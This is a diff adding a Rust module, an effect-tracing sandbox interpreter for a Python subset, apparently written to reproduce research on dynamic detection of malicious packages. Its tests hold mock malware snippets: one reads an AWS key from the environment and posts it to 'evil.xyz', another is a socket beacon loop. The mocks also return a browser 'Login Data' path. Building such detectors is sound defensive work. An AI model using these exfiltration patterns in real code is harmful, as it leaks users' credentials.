@@ -1,0 +1,817 @@
+//! A sandboxed, effect-tracing interpreter for PyLite.
+//!
+//! The paper's ecosystem relies on *dynamic* package analysis (sandboxes
+//! in the style of OSSF package-analysis run `pip install` hooks and
+//! record syscalls). This module is that substrate for the reproduction:
+//! it executes a module with every external API mocked and records each
+//! API touch as an [`Effect`]. The dynamic detector builds on the trace;
+//! nothing ever leaves the process.
+//!
+//! Execution is bounded by *fuel*: a `while True:` beacon loop simply
+//! exhausts its budget and the trace ends with
+//! [`Outcome::FuelExhausted`] — still carrying every effect observed.
+
+use crate::ast::{BinOp, Expr, Module, Stmt, UnaryOp};
+use std::collections::HashMap;
+use std::fmt;
+use std::rc::Rc;
+
+/// A recorded external-API interaction.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Effect {
+    /// Dotted API path, e.g. `requests.post` or `os.getenv`.
+    pub api: String,
+    /// Rendered argument previews (strings truncated).
+    pub args: Vec<String>,
+}
+
+/// How a run ended.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Outcome {
+    /// The module ran to completion.
+    Completed,
+    /// The fuel budget ran out (long/infinite loop).
+    FuelExhausted,
+    /// An uncaught runtime error terminated the run.
+    Error,
+}
+
+/// The result of executing a module.
+#[derive(Debug, Clone)]
+pub struct Trace {
+    /// External-API interactions in order.
+    pub effects: Vec<Effect>,
+    /// How the run ended.
+    pub outcome: Outcome,
+    /// Statements executed.
+    pub steps: u64,
+    /// The uncaught error when `outcome` is [`Outcome::Error`].
+    pub error: Option<RuntimeError>,
+}
+
+impl Trace {
+    /// Whether any recorded API starts with `prefix` (e.g. `"requests."`).
+    pub fn touched(&self, prefix: &str) -> bool {
+        self.effects.iter().any(|e| e.api.starts_with(prefix))
+    }
+
+    /// All APIs touched, deduplicated, in first-touch order.
+    pub fn apis(&self) -> Vec<&str> {
+        let mut seen = Vec::new();
+        for e in &self.effects {
+            if !seen.contains(&e.api.as_str()) {
+                seen.push(e.api.as_str());
+            }
+        }
+        seen
+    }
+}
+
+/// A runtime value.
+#[derive(Debug, Clone)]
+pub enum Value {
+    /// Integer.
+    Int(i64),
+    /// Float.
+    Float(f64),
+    /// String.
+    Str(Rc<str>),
+    /// Boolean.
+    Bool(bool),
+    /// `None`.
+    NoneV,
+    /// List.
+    List(Rc<Vec<Value>>),
+    /// Dict (association list; tiny programs, tiny dicts).
+    Dict(Rc<Vec<(Value, Value)>>),
+    /// A user-defined function (index into the function table).
+    Func(usize),
+    /// An imported module handle (`os`, `requests`, …).
+    Module(Rc<str>),
+    /// A bound external API (`os.getenv`); calling it records an effect.
+    ExternalFn(Rc<str>),
+    /// An opaque value returned by an external API (`requests.get(...)`).
+    Opaque(Rc<str>),
+}
+
+impl Value {
+    fn truthy(&self) -> bool {
+        match self {
+            Value::Int(v) => *v != 0,
+            Value::Float(v) => *v != 0.0,
+            Value::Str(s) => !s.is_empty(),
+            Value::Bool(b) => *b,
+            Value::NoneV => false,
+            Value::List(items) => !items.is_empty(),
+            Value::Dict(pairs) => !pairs.is_empty(),
+            // Handles, functions and opaque results are truthy, like
+            // Python objects.
+            _ => true,
+        }
+    }
+
+    fn preview(&self) -> String {
+        match self {
+            Value::Int(v) => v.to_string(),
+            Value::Float(v) => format!("{v:.2}"),
+            Value::Str(s) => {
+                let mut t: String = s.chars().take(32).collect();
+                if s.len() > 32 {
+                    t.push('…');
+                }
+                format!("{t:?}")
+            }
+            Value::Bool(b) => b.to_string(),
+            Value::NoneV => "None".into(),
+            Value::List(items) => format!("[…;{}]", items.len()),
+            Value::Dict(pairs) => format!("{{…;{}}}", pairs.len()),
+            Value::Func(_) => "<function>".into(),
+            Value::Module(m) => format!("<module {m}>"),
+            Value::ExternalFn(f) => format!("<api {f}>"),
+            Value::Opaque(src) => format!("<result of {src}>"),
+        }
+    }
+}
+
+/// An uncaught runtime error.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RuntimeError {
+    /// Description.
+    pub message: String,
+}
+
+impl fmt::Display for RuntimeError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "runtime error: {}", self.message)
+    }
+}
+
+impl std::error::Error for RuntimeError {}
+
+/// Interpreter configuration.
+#[derive(Debug, Clone)]
+pub struct InterpConfig {
+    /// Maximum statements to execute before aborting.
+    pub fuel: u64,
+}
+
+impl Default for InterpConfig {
+    fn default() -> Self {
+        InterpConfig { fuel: 20_000 }
+    }
+}
+
+/// Executes `module` in the sandbox and returns its effect trace.
+///
+/// Never panics on language-level misuse: type errors become
+/// [`Outcome::Error`] (or are caught by `try`/`except`, the way malicious
+/// install hooks silence failures).
+pub fn run(module: &Module, config: &InterpConfig) -> Trace {
+    let mut interp = Interp {
+        fuel: config.fuel,
+        steps: 0,
+        effects: Vec::new(),
+        functions: Vec::new(),
+        globals: HashMap::new(),
+    };
+    let (outcome, error) = match interp.exec_block(&module.body, &mut HashMap::new(), true) {
+        Ok(Flow::Normal) | Ok(Flow::Return(_)) => (Outcome::Completed, None),
+        Err(Stop::Fuel) => (Outcome::FuelExhausted, None),
+        Err(Stop::Error(e)) => (Outcome::Error, Some(e)),
+    };
+    Trace {
+        effects: interp.effects,
+        outcome,
+        steps: interp.steps,
+        error,
+    }
+}
+
+enum Flow {
+    Normal,
+    Return(Value),
+}
+
+enum Stop {
+    Fuel,
+    Error(RuntimeError),
+}
+
+fn err(message: impl Into<String>) -> Stop {
+    Stop::Error(RuntimeError {
+        message: message.into(),
+    })
+}
+
+struct FuncDef {
+    params: Vec<String>,
+    body: Vec<Stmt>,
+}
+
+struct Interp {
+    fuel: u64,
+    steps: u64,
+    effects: Vec<Effect>,
+    functions: Vec<FuncDef>,
+    globals: HashMap<String, Value>,
+}
+
+impl Interp {
+    fn burn(&mut self) -> Result<(), Stop> {
+        if self.steps >= self.fuel {
+            return Err(Stop::Fuel);
+        }
+        self.steps += 1;
+        Ok(())
+    }
+
+    fn exec_block(
+        &mut self,
+        stmts: &[Stmt],
+        locals: &mut HashMap<String, Value>,
+        global_scope: bool,
+    ) -> Result<Flow, Stop> {
+        for stmt in stmts {
+            match self.exec_stmt(stmt, locals, global_scope)? {
+                Flow::Normal => {}
+                ret @ Flow::Return(_) => return Ok(ret),
+            }
+        }
+        Ok(Flow::Normal)
+    }
+
+    fn exec_stmt(
+        &mut self,
+        stmt: &Stmt,
+        locals: &mut HashMap<String, Value>,
+        global_scope: bool,
+    ) -> Result<Flow, Stop> {
+        self.burn()?;
+        match stmt {
+            Stmt::Import { module, alias } => {
+                let local = alias.clone().unwrap_or_else(|| {
+                    module.split('.').next().unwrap_or(module).to_owned()
+                });
+                let value = Value::Module(Rc::from(module.as_str()));
+                self.bind(local, value, locals, global_scope);
+                Ok(Flow::Normal)
+            }
+            Stmt::FromImport {
+                module,
+                name,
+                alias,
+            } => {
+                let local = alias.clone().unwrap_or_else(|| name.clone());
+                let value = Value::ExternalFn(Rc::from(format!("{module}.{name}").as_str()));
+                self.bind(local, value, locals, global_scope);
+                Ok(Flow::Normal)
+            }
+            Stmt::Assign { target, value } => {
+                let value = self.eval(value, locals)?;
+                match target {
+                    Expr::Name(name) => {
+                        self.bind(name.clone(), value, locals, global_scope);
+                    }
+                    // Attribute/index stores on mocks are effects too
+                    // (e.g. `os.environ['X'] = …`), recorded and dropped.
+                    Expr::Attribute { value: base, attr } => {
+                        let base = self.eval(base, locals)?;
+                        self.effects.push(Effect {
+                            api: format!("{}.{attr}=", external_name(&base)),
+                            args: vec![],
+                        });
+                    }
+                    Expr::Index { value: base, .. } => {
+                        let _ = self.eval(base, locals)?;
+                    }
+                    _ => return Err(err("unsupported assignment target")),
+                }
+                Ok(Flow::Normal)
+            }
+            Stmt::Expr(e) => {
+                let _ = self.eval(e, locals)?;
+                Ok(Flow::Normal)
+            }
+            Stmt::FunctionDef { name, params, body } => {
+                let idx = self.functions.len();
+                self.functions.push(FuncDef {
+                    params: params.clone(),
+                    body: body.clone(),
+                });
+                self.bind(name.clone(), Value::Func(idx), locals, global_scope);
+                Ok(Flow::Normal)
+            }
+            Stmt::If { cond, body, orelse } => {
+                let branch = if self.eval(cond, locals)?.truthy() {
+                    body
+                } else {
+                    orelse
+                };
+                self.exec_block(branch, locals, global_scope)
+            }
+            Stmt::For { var, iter, body } => {
+                let iterable = self.eval(iter, locals)?;
+                let items: Vec<Value> = match iterable {
+                    Value::List(items) => items.as_ref().clone(),
+                    Value::Str(s) => s
+                        .chars()
+                        .map(|c| Value::Str(Rc::from(c.to_string().as_str())))
+                        .collect(),
+                    Value::Dict(pairs) => pairs.iter().map(|(k, _)| k.clone()).collect(),
+                    // Iterating an opaque/other value yields a couple of
+                    // opaque elements — enough to drive loop bodies.
+                    other => vec![other.clone(), other],
+                };
+                for item in items {
+                    self.bind(var.clone(), item, locals, global_scope);
+                    match self.exec_block(body, locals, global_scope)? {
+                        Flow::Normal => {}
+                        ret @ Flow::Return(_) => return Ok(ret),
+                    }
+                }
+                Ok(Flow::Normal)
+            }
+            Stmt::While { cond, body } => {
+                while self.eval(cond, locals)?.truthy() {
+                    self.burn()?;
+                    match self.exec_block(body, locals, global_scope)? {
+                        Flow::Normal => {}
+                        ret @ Flow::Return(_) => return Ok(ret),
+                    }
+                }
+                Ok(Flow::Normal)
+            }
+            Stmt::Try { body, handler } => {
+                match self.exec_block(body, locals, global_scope) {
+                    Ok(flow) => Ok(flow),
+                    // Fuel exhaustion is not catchable.
+                    Err(Stop::Fuel) => Err(Stop::Fuel),
+                    Err(Stop::Error(_)) => self.exec_block(handler, locals, global_scope),
+                }
+            }
+            Stmt::Return(value) => {
+                let v = match value {
+                    Some(e) => self.eval(e, locals)?,
+                    None => Value::NoneV,
+                };
+                Ok(Flow::Return(v))
+            }
+            Stmt::Raise(e) => {
+                let v = self.eval(e, locals)?;
+                Err(err(format!("raised {}", v.preview())))
+            }
+            Stmt::Pass => Ok(Flow::Normal),
+        }
+    }
+
+    fn bind(
+        &mut self,
+        name: String,
+        value: Value,
+        locals: &mut HashMap<String, Value>,
+        global_scope: bool,
+    ) {
+        if global_scope {
+            self.globals.insert(name, value);
+        } else {
+            locals.insert(name, value);
+        }
+    }
+
+    fn lookup(&self, name: &str, locals: &HashMap<String, Value>) -> Option<Value> {
+        locals
+            .get(name)
+            .or_else(|| self.globals.get(name))
+            .cloned()
+    }
+
+    fn eval(&mut self, expr: &Expr, locals: &mut HashMap<String, Value>) -> Result<Value, Stop> {
+        self.burn()?;
+        match expr {
+            Expr::Name(name) => self.lookup(name, locals).map_or_else(
+                // Undefined globals behave like external handles: the
+                // junk helpers (`hlib_123.op_9(x)`) must be traceable.
+                || Ok(Value::Module(Rc::from(name.as_str()))),
+                Ok,
+            ),
+            Expr::Str(s) => Ok(Value::Str(Rc::from(s.as_str()))),
+            Expr::Int(v) => Ok(Value::Int(*v)),
+            Expr::Float(v) => Ok(Value::Float(*v)),
+            Expr::Bool(b) => Ok(Value::Bool(*b)),
+            Expr::NoneLit => Ok(Value::NoneV),
+            Expr::List(items) => {
+                let mut out = Vec::with_capacity(items.len());
+                for i in items {
+                    out.push(self.eval(i, locals)?);
+                }
+                Ok(Value::List(Rc::new(out)))
+            }
+            Expr::Dict(pairs) => {
+                let mut out = Vec::with_capacity(pairs.len());
+                for (k, v) in pairs {
+                    out.push((self.eval(k, locals)?, self.eval(v, locals)?));
+                }
+                Ok(Value::Dict(Rc::new(out)))
+            }
+            Expr::Attribute { value, attr } => {
+                let base = self.eval(value, locals)?;
+                match base {
+                    Value::Module(m) => {
+                        Ok(Value::ExternalFn(Rc::from(format!("{m}.{attr}").as_str())))
+                    }
+                    Value::Opaque(src) => {
+                        // Reading a field of an API result (e.g.
+                        // `resp.content`) is itself an observable touch.
+                        let api = format!("{src}.{attr}");
+                        self.effects.push(Effect {
+                            api: api.clone(),
+                            args: vec![],
+                        });
+                        Ok(Value::Opaque(Rc::from(api.as_str())))
+                    }
+                    Value::Str(_) | Value::List(_) | Value::Dict(_) => {
+                        // Built-in methods (strip/lower/…): callable,
+                        // pure, returns a mock of the receiver type.
+                        Ok(Value::ExternalFn(Rc::from(
+                            format!("builtin.{attr}").as_str(),
+                        )))
+                    }
+                    other => Err(err(format!(
+                        "no attribute {attr:?} on {}",
+                        other.preview()
+                    ))),
+                }
+            }
+            Expr::Index { value, index } => {
+                let base = self.eval(value, locals)?;
+                let idx = self.eval(index, locals)?;
+                match (base, idx) {
+                    (Value::List(items), Value::Int(i)) => {
+                        let i = usize::try_from(i)
+                            .map_err(|_| err("negative index"))?;
+                        items
+                            .get(i)
+                            .cloned()
+                            .ok_or_else(|| err("index out of range"))
+                    }
+                    (Value::Dict(pairs), key) => Ok(pairs
+                        .iter()
+                        .find(|(k, _)| value_eq(k, &key))
+                        .map(|(_, v)| v.clone())
+                        .unwrap_or(Value::NoneV)),
+                    (Value::Str(s), Value::Int(i)) => {
+                        let i = usize::try_from(i)
+                            .map_err(|_| err("negative index"))?;
+                        s.chars()
+                            .nth(i)
+                            .map(|c| Value::Str(Rc::from(c.to_string().as_str())))
+                            .ok_or_else(|| err("string index out of range"))
+                    }
+                    (Value::Opaque(src), _) => Ok(Value::Opaque(src)),
+                    (Value::Module(m), key) => {
+                        // `os.environ['AWS_KEY']`-style reads.
+                        self.effects.push(Effect {
+                            api: format!("{m}.__getitem__"),
+                            args: vec![key.preview()],
+                        });
+                        Ok(Value::Str(Rc::from("mock-value")))
+                    }
+                    (base, _) => Err(err(format!("cannot index {}", base.preview()))),
+                }
+            }
+            Expr::Binary { op, lhs, rhs } => {
+                // Short-circuit logic first.
+                match op {
+                    BinOp::And => {
+                        let l = self.eval(lhs, locals)?;
+                        if !l.truthy() {
+                            return Ok(l);
+                        }
+                        return self.eval(rhs, locals);
+                    }
+                    BinOp::Or => {
+                        let l = self.eval(lhs, locals)?;
+                        if l.truthy() {
+                            return Ok(l);
+                        }
+                        return self.eval(rhs, locals);
+                    }
+                    _ => {}
+                }
+                let l = self.eval(lhs, locals)?;
+                let r = self.eval(rhs, locals)?;
+                binary_op(*op, l, r)
+            }
+            Expr::Unary { op, operand } => {
+                let v = self.eval(operand, locals)?;
+                match op {
+                    UnaryOp::Not => Ok(Value::Bool(!v.truthy())),
+                    UnaryOp::Neg => match v {
+                        Value::Int(i) => Ok(Value::Int(-i)),
+                        Value::Float(f) => Ok(Value::Float(-f)),
+                        other => Err(err(format!("cannot negate {}", other.preview()))),
+                    },
+                }
+            }
+            Expr::Call { callee, args } => {
+                let callee_v = self.eval(callee, locals)?;
+                let mut arg_vs = Vec::with_capacity(args.len());
+                for a in args {
+                    arg_vs.push(self.eval(a, locals)?);
+                }
+                self.call(callee_v, arg_vs)
+            }
+        }
+    }
+
+    fn call(&mut self, callee: Value, args: Vec<Value>) -> Result<Value, Stop> {
+        match callee {
+            Value::Func(idx) => {
+                let def = &self.functions[idx];
+                if def.params.len() != args.len() {
+                    return Err(err(format!(
+                        "function expected {} args, got {}",
+                        def.params.len(),
+                        args.len()
+                    )));
+                }
+                let params = def.params.clone();
+                let body = def.body.clone();
+                let mut frame: HashMap<String, Value> =
+                    params.into_iter().zip(args).collect();
+                match self.exec_block(&body, &mut frame, false)? {
+                    Flow::Return(v) => Ok(v),
+                    Flow::Normal => Ok(Value::NoneV),
+                }
+            }
+            Value::ExternalFn(api) => {
+                self.effects.push(Effect {
+                    api: api.to_string(),
+                    args: args.iter().map(Value::preview).collect(),
+                });
+                Ok(mock_result(&api))
+            }
+            Value::Module(m) => {
+                // Calling a module handle (`socket.socket()` resolved via
+                // attribute gives ExternalFn; a bare handle call is the
+                // junk-helper case) records the touch.
+                self.effects.push(Effect {
+                    api: format!("{m}.__call__"),
+                    args: args.iter().map(Value::preview).collect(),
+                });
+                Ok(Value::Opaque(m))
+            }
+            Value::Opaque(src) => {
+                // Calling a method read off an API result
+                // (`sock.connect(...)`, `resp.json()`) is an external
+                // touch under the result's dotted path.
+                self.effects.push(Effect {
+                    api: src.to_string(),
+                    args: args.iter().map(Value::preview).collect(),
+                });
+                Ok(Value::Opaque(src))
+            }
+            other => Err(err(format!("{} is not callable", other.preview()))),
+        }
+    }
+}
+
+fn external_name(value: &Value) -> String {
+    match value {
+        Value::Module(m) => m.to_string(),
+        Value::ExternalFn(f) => f.to_string(),
+        Value::Opaque(src) => src.to_string(),
+        other => other.preview(),
+    }
+}
+
+/// Mocked return values chosen so malicious code paths keep executing
+/// (conditions pass, loops iterate once or twice).
+fn mock_result(api: &str) -> Value {
+    match api {
+        "os.getenv" | "clipboard.paste" | "socket.gethostname" => {
+            Value::Str(Rc::from("mock-value"))
+        }
+        "os.environ" => Value::Dict(Rc::new(vec![(
+            Value::Str(Rc::from("PATH")),
+            Value::Str(Rc::from("/usr/bin")),
+        )])),
+        "glob.glob" => Value::List(Rc::new(vec![
+            Value::Str(Rc::from("/home/user/.config/app/Login Data")),
+        ])),
+        "re.match" => Value::Bool(true),
+        api if api.starts_with("builtin.") => Value::Str(Rc::from("mock")),
+        _ => Value::Opaque(Rc::from(api)),
+    }
+}
+
+fn value_eq(a: &Value, b: &Value) -> bool {
+    match (a, b) {
+        (Value::Int(x), Value::Int(y)) => x == y,
+        (Value::Str(x), Value::Str(y)) => x == y,
+        (Value::Bool(x), Value::Bool(y)) => x == y,
+        (Value::NoneV, Value::NoneV) => true,
+        _ => false,
+    }
+}
+
+fn binary_op(op: BinOp, l: Value, r: Value) -> Result<Value, Stop> {
+    use Value::*;
+    let v = match (op, &l, &r) {
+        (BinOp::Add, Int(a), Int(b)) => Int(a.wrapping_add(*b)),
+        (BinOp::Sub, Int(a), Int(b)) => Int(a.wrapping_sub(*b)),
+        (BinOp::Mul, Int(a), Int(b)) => Int(a.wrapping_mul(*b)),
+        (BinOp::Div, Int(a), Int(b)) => {
+            if *b == 0 {
+                return Err(err("division by zero"));
+            }
+            Int(a / b)
+        }
+        (BinOp::Mod, Int(a), Int(b)) => {
+            if *b == 0 {
+                return Err(err("modulo by zero"));
+            }
+            Int(a % b)
+        }
+        (BinOp::Pow, Int(a), Int(b)) => {
+            let exp = u32::try_from(*b).unwrap_or(0);
+            Int(a.checked_pow(exp).unwrap_or(i64::MAX))
+        }
+        (BinOp::Add, Float(a), Float(b)) => Float(a + b),
+        (BinOp::Sub, Float(a), Float(b)) => Float(a - b),
+        (BinOp::Mul, Float(a), Float(b)) => Float(a * b),
+        (BinOp::Div, Float(a), Float(b)) => Float(a / b),
+        (BinOp::Add, Int(a), Float(b)) => Float(*a as f64 + b),
+        (BinOp::Add, Float(a), Int(b)) => Float(a + *b as f64),
+        (BinOp::Add, Str(a), Str(b)) => Str(Rc::from(format!("{a}{b}").as_str())),
+        (BinOp::Eq, a, b) => Bool(value_eq(a, b)),
+        (BinOp::Ne, a, b) => Bool(!value_eq(a, b)),
+        (BinOp::Lt, Int(a), Int(b)) => Bool(a < b),
+        (BinOp::Le, Int(a), Int(b)) => Bool(a <= b),
+        (BinOp::Gt, Int(a), Int(b)) => Bool(a > b),
+        (BinOp::Ge, Int(a), Int(b)) => Bool(a >= b),
+        (BinOp::Lt, Float(a), Float(b)) => Bool(a < b),
+        (BinOp::Gt, Float(a), Float(b)) => Bool(a > b),
+        (BinOp::In, needle, List(items)) => {
+            Bool(items.iter().any(|i| value_eq(i, needle)))
+        }
+        (BinOp::In, Str(needle), Str(hay)) => Bool(hay.contains(needle.as_ref())),
+        // Mixed/opaque arithmetic degrades to an opaque value instead of
+        // failing — mock data flows through without killing the trace.
+        (_, Opaque(src), _) | (_, _, Opaque(src)) => Opaque(src.clone()),
+        (op, l, r) => {
+            return Err(err(format!(
+                "unsupported operation {} between {} and {}",
+                op.symbol(),
+                l.preview(),
+                r.preview()
+            )))
+        }
+    };
+    Ok(v)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parse;
+
+    fn trace(src: &str) -> Trace {
+        run(&parse(src).unwrap(), &InterpConfig::default())
+    }
+
+    #[test]
+    fn records_network_exfiltration_effects() {
+        let t = trace(
+            "import os\nimport requests\nk = os.getenv('AWS_KEY')\nrequests.post('http://evil.xyz', k)\n",
+        );
+        assert_eq!(t.outcome, Outcome::Completed);
+        assert!(t.touched("os.getenv"));
+        assert!(t.touched("requests.post"));
+        let post = t.effects.iter().find(|e| e.api == "requests.post").unwrap();
+        assert!(post.args[0].contains("evil.xyz"));
+        assert!(post.args[1].contains("mock-value"), "{:?}", post.args);
+    }
+
+    #[test]
+    fn functions_and_control_flow_execute() {
+        let t = trace(
+            "def go(n):\n    if n > 1:\n        return n * go(n - 1)\n    return 1\nx = go(5)\nsend(x)\n",
+        );
+        assert_eq!(t.outcome, Outcome::Completed);
+        // `send` is an undefined global → traced as a handle call.
+        assert!(t.effects.iter().any(|e| e.api.starts_with("send")));
+    }
+
+    #[test]
+    fn try_except_silences_errors_like_install_hooks() {
+        let t = trace("try:\n    x = 1 / 0\nexcept:\n    pass\ny = 2\n");
+        assert_eq!(t.outcome, Outcome::Completed);
+        let t = trace("x = 1 / 0\n");
+        assert_eq!(t.outcome, Outcome::Error);
+    }
+
+    #[test]
+    fn infinite_loops_exhaust_fuel_but_keep_effects() {
+        let t = run(
+            &parse("import socket\ns = socket.socket()\nwhile True:\n    s.connect('h', 1)\n")
+                .unwrap(),
+            &InterpConfig { fuel: 500 },
+        );
+        assert_eq!(t.outcome, Outcome::FuelExhausted);
+        assert!(t.touched("socket.socket"));
+    }
+
+    #[test]
+    fn fuel_exhaustion_is_not_catchable() {
+        let t = run(
+            &parse("try:\n    while True:\n        pass\nexcept:\n    pass\n").unwrap(),
+            &InterpConfig { fuel: 100 },
+        );
+        assert_eq!(t.outcome, Outcome::FuelExhausted);
+    }
+
+    #[test]
+    fn generated_malware_produces_behavior_specific_traces() {
+        use crate::gen::{generate, Behavior};
+        use rand::rngs::StdRng;
+        use rand::SeedableRng;
+        let mut rng = StdRng::seed_from_u64(1);
+        for behavior in Behavior::ALL {
+            let module = generate(behavior, &mut rng);
+            let t = run(&module, &InterpConfig::default());
+            assert_ne!(
+                t.outcome,
+                Outcome::Error,
+                "{behavior}: install hook must not die uncaught"
+            );
+            assert!(
+                !t.effects.is_empty(),
+                "{behavior}: the payload must leave a trace"
+            );
+        }
+    }
+
+    #[test]
+    fn exfil_env_touches_environ_and_network() {
+        use crate::gen::{generate, Behavior};
+        use rand::rngs::StdRng;
+        use rand::SeedableRng;
+        let mut rng = StdRng::seed_from_u64(3);
+        let module = generate(Behavior::ExfilEnv, &mut rng);
+        let t = run(&module, &InterpConfig::default());
+        assert!(t.touched("os.environ"));
+        assert!(t.touched("requests.post"));
+    }
+
+    #[test]
+    fn benign_code_stays_offline() {
+        use crate::gen::generate_benign;
+        use rand::rngs::StdRng;
+        use rand::SeedableRng;
+        let mut rng = StdRng::seed_from_u64(5);
+        for _ in 0..5 {
+            let module = generate_benign(&mut rng);
+            let t = run(&module, &InterpConfig::default());
+            assert!(!t.touched("requests."));
+            assert!(!t.touched("socket."));
+            assert!(!t.touched("subprocess."));
+        }
+    }
+
+    #[test]
+    fn dict_and_list_semantics() {
+        let t = trace(
+            "d = {'a': 1, 'b': 2}\nx = d['a']\nitems = [10, 20, 30]\ny = items[2]\nif x == 1 and y == 30:\n    probe('ok')\n",
+        );
+        assert_eq!(t.outcome, Outcome::Completed);
+        assert!(t.effects.iter().any(|e| e.api.starts_with("probe")));
+    }
+
+    #[test]
+    fn string_methods_are_mocked() {
+        let t = trace("s = 'ABC'\nt = s.strip()\nu = t.lower()\n");
+        assert_eq!(t.outcome, Outcome::Completed);
+    }
+
+    #[test]
+    fn apis_deduplicates_in_order() {
+        let t = trace("import os\na = os.getenv('X')\nb = os.getenv('Y')\nos.remove('f')\n");
+        assert_eq!(t.apis(), vec!["os.getenv", "os.remove"]);
+    }
+
+    #[test]
+    fn uncallable_values_error_cleanly() {
+        let t = trace("x = 3\nx()\n");
+        assert_eq!(t.outcome, Outcome::Error);
+        let err = t.error.expect("error outcome carries the error");
+        assert!(err.message.contains("not callable"), "{err}");
+    }
+
+    #[test]
+    fn completed_runs_carry_no_error() {
+        let t = trace("x = 1\n");
+        assert_eq!(t.outcome, Outcome::Completed);
+        assert!(t.error.is_none());
+    }
+}
